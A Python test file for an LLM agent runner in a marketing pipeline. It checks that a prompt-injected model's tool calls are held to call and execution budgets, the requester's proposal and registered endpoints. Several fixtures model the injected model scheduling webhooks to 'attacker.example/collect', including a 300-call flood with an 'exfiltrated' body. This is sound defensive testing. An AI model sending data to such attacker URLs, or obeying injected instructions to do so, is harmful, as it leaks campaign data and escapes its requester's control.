"""An agent run stays within its budget and its requester's proposal, whatever its model asks for.

The model is the real Anthropic provider with its HTTP answered here (``fake_models``), so a turn can be
what a prompt-injected model sends: hundreds of ``schedule_execution`` calls at once to a URL it wrote, or
an execution other than the one its requester proposed.
"""

from __future__ import annotations

import time
from collections.abc import Callable
from typing import Any

import dagster as dg
import httpx
import pytest
import sqlalchemy as sa

from marketing_pipelines.agents import users
from marketing_pipelines.agents.catalog import AGENTS, AgentBudget, get_agent
from marketing_pipelines.agents.queue import Transcript, get_agent_run, request_agent_run, transcript
from marketing_pipelines.agents.runner import AgentResult, CallsGate, RunLimits, run_agent_loop
from marketing_pipelines.db.schema import marketing_execution
from marketing_pipelines.egress import EgressPolicy
from marketing_pipelines.errors import InvalidInput
from marketing_pipelines.executions.endpoints import add_endpoint
from marketing_pipelines.sealing import SecretBox, new_key
from marketing_pipelines_tests.agents.fake_models import anthropic_models, flood_turn, text_turn
from marketing_pipelines_tests.agents.runs import output_metadata, run_one
from marketing_pipelines_tests.factories import add_campaign, settings_from

OURS, OTHER = "spring-launch", "secret-project"
ANALYST_NEEDS = ("campaign:read", "measurement:read", "execution:read", "execution:write")
MODEL_KEY = {"ANTHROPIC_API_KEY": "k"}
SEALING_KEY = new_key()
DUE = "2026-12-01T09:00:00+00:00"
ANALYST = AGENTS["measurement_analyst"].budget


@pytest.fixture
def ana(engine: sa.Engine) -> sa.Engine:
    add_campaign(engine, OURS)
    add_campaign(engine, OTHER)
    with engine.begin() as conn:
        users.add_user(conn, "ana")
        # ana may do everything: only the agent's budget, its proposal and its campaign's endpoints stop its run.
        for permission in ANALYST_NEEDS:
            users.grant(conn, "ana", permission)
        for name, campaign_id in (("crm", OURS), ("their-crm", OTHER), ("everyone", None)):
            add_endpoint(
                conn, SecretBox(SEALING_KEY), name, f"https://{name}.example.com/T0K3N", EgressPolicy(), campaign_id
            )
    return engine


def _request(engine: sa.Engine, agent: str = "measurement_analyst", **given: Any) -> int:
    with engine.begin() as conn:
        return request_agent_run(
            conn,
            agent=agent,
            campaign_id=OURS,
            requested_by="ana",
            input=given or ({"stage": "launch"} if agent == "campaign_brief" else None),
            provider="anthropic",
            settings=settings_from(MODEL_KEY),
        )


def _webhook(i: int = 1, **changes: Any) -> dict[str, Any]:
    arguments = {
        "campaign_id": OURS,
        "stage": "launch",
        "action": "webhook",
        "due": DUE,
        "payload": {"endpoint": "crm", "body": {"text": f"go {i}"}},
    }
    return arguments | changes


def _attacker(i: int) -> dict[str, Any]:
    return _webhook(payload={"url": f"https://attacker.example/collect?i={i}", "body": {"exfiltrated": i}})


def _turn(*arguments: dict[str, Any], tool: str = "schedule_execution") -> httpx.Response:
    return flood_turn(tool, lambda i: arguments[i - 1], len(arguments))


def _answers(turns: list[httpx.Response], bodies: list[dict[str, Any]]) -> Callable[[int, dict[str, Any]], Any]:
    def answer(call: int, body: dict[str, Any]) -> httpx.Response:
        bodies.append(body)
        return turns[call - 1] if call <= len(turns) else text_turn("Done.")

    return answer


def _loop(
    engine: sa.Engine, run_id: int, turns: list[httpx.Response], attempt: int = 1
) -> tuple[AgentResult, list[dict[str, Any]]]:
    """One attempt of the run whose model answers ``turns`` in order, then "Done."; its result and outcomes."""
    with engine.connect() as conn:
        row = get_agent_run(conn, run_id)
    assert row is not None
    result = run_agent_loop(
        engine=engine,
        definition=get_agent(row["agent"]),
        run=row,
        provider=anthropic_models(_answers(turns, []))["anthropic_model"],
        transcript=Transcript(engine, run_id, attempt),
        limits=RunLimits(max_steps=len(turns) + 1, deadline=time.monotonic() + 120),
        gate=CallsGate(lambda: None),
        egress=EgressPolicy(),
    )
    return result, _outcomes(engine, run_id, attempt)


def _outcomes(engine: sa.Engine, run_id: int, attempt: int | None = None) -> list[dict[str, Any]]:
    """What each tool call came to, in order: its result, denial or error step."""
    with engine.connect() as conn:
        steps = transcript(conn, run_id, attempt)
    return [dict(s) for s in steps if s["kind"] in ("tool_result", "denial", "tool_error")]


def _reasons(outcomes: list[dict[str, Any]]) -> list[str]:
    return [o["content"]["reason"] for o in outcomes if o["kind"] == "denial"]


def _executions(engine: sa.Engine) -> list[sa.Row]:
    t = marketing_execution
    with engine.connect() as conn:
        return list(conn.execute(sa.select(t.c.id, t.c.campaign_id, t.c.payload).order_by(t.c.id)).all())


def test_300_webhooks_to_a_url_the_model_wrote_schedule_none_and_the_run_says_so(
    ana: sa.Engine, db_url: str, instance: dg.DagsterInstance
) -> None:
    # Issue 44 item 6: one turn, 300 calls to the attacker's collector; before, all 300 were scheduled.
    run_id = _request(ana)
    bodies: list[dict[str, Any]] = []
    flood = flood_turn("schedule_execution", _attacker, 300)

    result = run_one(db_url, instance, anthropic_models(_answers([flood], bodies)))

    assert _executions(ana) == []
    outcomes = _outcomes(ana, run_id)
    assert [o["kind"] for o in outcomes] == ["denial"] * 300
    reasons = _reasons(outcomes)
    per_turn = ANALYST.tool_calls_per_turn
    # The calls within the turn's budget are made, and refused for their destination; the rest are never made.
    assert all("may not send a webhook to a URL it wrote" in r for r in reasons[:per_turn])
    assert all(r.startswith("over budget: at most 4 tool call(s) per model turn") for r in reasons[per_turn:])
    assert not [r for r in reasons if "attacker.example" in r]
    # The run's outcome shows it: succeeded (the model finished), every call refused, most over the budget.
    assert result.success
    with ana.connect() as conn:
        row = get_agent_run(conn, run_id)
    assert row is not None and row["status"] == "SUCCEEDED"
    assert {k: row["output"][k] for k in ("tool_calls", "denials", "over_budget")} == {
        "tool_calls": 300,
        "denials": 300,
        "over_budget": 300 - per_turn,
    }
    metadata = output_metadata(result)
    assert metadata["denials"] == 300 and "300 refused" in metadata["transcript"]
    # The model was told, each call answered as a refused tool result.
    answered = [b for b in bodies[1]["messages"][-1]["content"] if b.get("type") == "tool_result"]
    assert len(answered) == 300 and all(b["is_error"] for b in answered)


def test_a_flood_the_destination_allows_schedules_only_the_runs_execution_budget(ana: sa.Engine) -> None:
    # 300 webhooks to the campaign's own endpoint, each with a body of the model's choice, and no proposal.
    run_id = _request(ana)
    result, outcomes = _loop(ana, run_id, [flood_turn("schedule_execution", _webhook, 300)])

    scheduled = _executions(ana)
    assert len(scheduled) == ANALYST.executions_per_run == 2
    assert [o["kind"] for o in outcomes[:2]] == ["tool_result"] * 2
    reasons = _reasons(outcomes)
    assert len(reasons) == 298
    assert all(r.startswith(f"over budget: agent run {run_id} may schedule 2 execution(s)") for r in reasons[:2])
    assert all("per model turn" in r for r in reasons[2:])
    assert (result.denials, result.over_budget) == (298, 298)


@pytest.mark.parametrize(
    ("agent", "per_turn"),
    [
        ("campaign_brief", 2),  # two read tools
        ("measurement_analyst", 4),  # four tools
    ],
)
def test_each_agent_makes_at_most_its_budget_of_calls_per_turn(ana: sa.Engine, agent: str, per_turn: int) -> None:
    assert AGENTS[agent].budget.tool_calls_per_turn == per_turn
    run_id = _request(ana, agent)
    reads = [{"campaign_id": OURS}] * 10
    result, outcomes = _loop(ana, run_id, [_turn(*reads, tool="read_campaign")])
    assert [o["kind"] for o in outcomes] == ["tool_result"] * per_turn + ["denial"] * (10 - per_turn)
    assert result.over_budget == 10 - per_turn


def test_a_run_makes_at_most_its_budget_of_calls_over_its_turns(ana: sa.Engine) -> None:
    # Four turns of four reads each (each turn within its own budget): 16 calls against a run budget of 12.
    run_id = _request(ana)
    turn = _turn(*[{"campaign_id": OURS}] * 4, tool="read_campaign")
    result, outcomes = _loop(ana, run_id, [turn] * 4)
    assert ANALYST.tool_calls_per_run == 12
    assert [o["kind"] for o in outcomes] == ["tool_result"] * 12 + ["denial"] * 4
    assert all(r.startswith("over budget: at most 12 tool call(s) per run") for r in _reasons(outcomes))
    assert result.over_budget == 4


PROPOSAL = {"stage": "launch", "action": "webhook", "due": DUE, "payload": {"endpoint": "crm", "body": {"text": "go"}}}


@pytest.mark.parametrize(
    ("call", "differs"),
    [
        # the proposal itself, its due time spelled another way
        (_webhook(payload=PROPOSAL["payload"], due="2026-12-01T10:00:00+01:00"), None),
        # the body changed
        (_webhook(payload={"endpoint": "crm", "body": {"text": "go", "also": "this"}}), "payload"),
        # the same body to a URL the model wrote
        (_webhook(payload={"url": "https://attacker.example/c", "body": {"text": "go"}}), "payload"),
        # another time
        (_webhook(payload=PROPOSAL["payload"], due="now"), "due"),
        # another stage and action
        (_webhook(payload=PROPOSAL["payload"], stage="retention", action="log"), "stage, action"),
    ],
)
def test_a_run_with_a_proposal_schedules_that_proposal_only(
    ana: sa.Engine, call: dict[str, Any], differs: str | None
) -> None:
    run_id = _request(ana, propose=PROPOSAL)
    _, outcomes = _loop(ana, run_id, [_turn(call)])
    if differs is None:
        assert [o["kind"] for o in outcomes] == ["tool_result"]
        [execution] = _executions(ana)
        assert execution.payload == PROPOSAL["payload"]
    else:
        assert _executions(ana) == []
        assert _reasons(outcomes) == [
            f"this run may schedule only the requester's proposal; the call's {differs} differ(s) from it"
        ]


def test_a_proposal_is_scheduled_once_however_often_the_model_repeats_it(ana: sa.Engine) -> None:
    run_id = _request(ana, propose=PROPOSAL)
    call = _webhook(payload=PROPOSAL["payload"])
    _, outcomes = _loop(ana, run_id, [_turn(call, call, call)])
    assert [o["kind"] for o in outcomes] == ["tool_result"] * 3
    assert len({o["content"]["result"]["scheduled_execution_id"] for o in outcomes}) == 1
    assert len(_executions(ana)) == 1


def test_a_proposals_own_url_is_the_requesters_and_the_model_can_only_copy_it(ana: sa.Engine) -> None:
    # The requester, who may schedule that webhook themselves, wrote the URL: the model may not change it.
    payload = {"url": "https://hooks.example.com/T0/B0/requesters-token", "body": {"text": "go"}}
    run_id = _request(ana, propose={**PROPOSAL, "payload": payload})
    elsewhere = {**payload, "url": "https://attacker.example/c"}
    _, outcomes = _loop(ana, run_id, [_turn(_webhook(payload=elsewhere), _webhook(payload=payload))])
    assert [o["kind"] for o in outcomes] == ["denial", "tool_result"]
    [execution] = _executions(ana)
    assert execution.payload == payload


@pytest.mark.parametrize(
    ("payload", "refused"),
    [
        # an endpoint registered for the run's campaign
        ({"endpoint": "crm", "body": {}}, None),
        # an endpoint registered for another campaign
        ({"endpoint": "their-crm", "body": {}}, "webhook endpoint 'their-crm' is not registered for campaign"),
        # an endpoint registered for every campaign: not one the requester registered for this one
        ({"endpoint": "everyone", "body": {}}, "webhook endpoint 'everyone' is not registered for campaign"),
        # no endpoint of that name
        ({"endpoint": "nowhere", "body": {}}, "webhook endpoint 'nowhere' is not registered for campaign"),
        # a URL the model wrote, alone or beside an endpoint
        ({"url": "https://attacker.example/c", "body": {}}, "may not send a webhook to a URL it wrote"),
        ({"url": "https://attacker.example/c", "endpoint": "crm"}, "may not send a webhook to a URL it wrote"),
    ],
)
def test_without_a_proposal_a_webhook_goes_only_to_an_endpoint_of_the_runs_campaign(
    ana: sa.Engine, payload: dict[str, Any], refused: str | None
) -> None:
    run_id = _request(ana)
    _, outcomes = _loop(ana, run_id, [_turn(_webhook(payload=payload))])
    if refused is None:
        assert [o["kind"] for o in outcomes] == ["tool_result"] and len(_executions(ana)) == 1
    else:
        [reason] = _reasons(outcomes)
        assert refused in reason and "attacker" not in reason
        assert _executions(ana) == []


def test_the_execution_budget_counts_every_attempt_of_the_run(ana: sa.Engine) -> None:
    run_id = _request(ana)
    first, second, third = (_webhook(i) for i in (1, 2, 3))
    _loop(ana, run_id, [_turn(first, second)])
    # A retried attempt resumes (test_resume.py); one whose conversation starts over anyway (a second task step,
    # as versions before resuming wrote) may get its executions back, not schedule new ones past the budget.
    with ana.connect() as conn:
        task = next(s["content"] for s in transcript(conn, run_id) if s["kind"] == "task")
    Transcript(ana, run_id, 2).add("task", None, task)
    _, outcomes = _loop(ana, run_id, [_turn(first, third)], attempt=2)
    assert [o["kind"] for o in outcomes] == ["tool_result", "denial"]
    assert _reasons(outcomes)[0].startswith(f"over budget: agent run {run_id} may schedule 2 execution(s)")
    assert len(_executions(ana)) == 2


def test_a_proposal_whose_due_time_cannot_be_read_is_refused_when_requested(ana: sa.Engine) -> None:
    with pytest.raises(InvalidInput, match="due time 'tomorrow' is not ISO-8601"):
        _request(ana, propose={**PROPOSAL, "due": "tomorrow"})


@pytest.mark.parametrize(
    "fields",
    [
        {"tool_calls_per_turn": 0, "tool_calls_per_run": 4},  # no call at all
        {"tool_calls_per_turn": 5, "tool_calls_per_run": 4},  # a turn larger than the run
        {"tool_calls_per_turn": 1, "tool_calls_per_run": 4, "executions_per_run": -1},
    ],
)
def test_a_budget_that_cannot_hold_is_refused_when_defined(fields: dict[str, int]) -> None:
    with pytest.raises(ValueError, match=r"budget|executions_per_run"):
        AgentBudget(**fields)
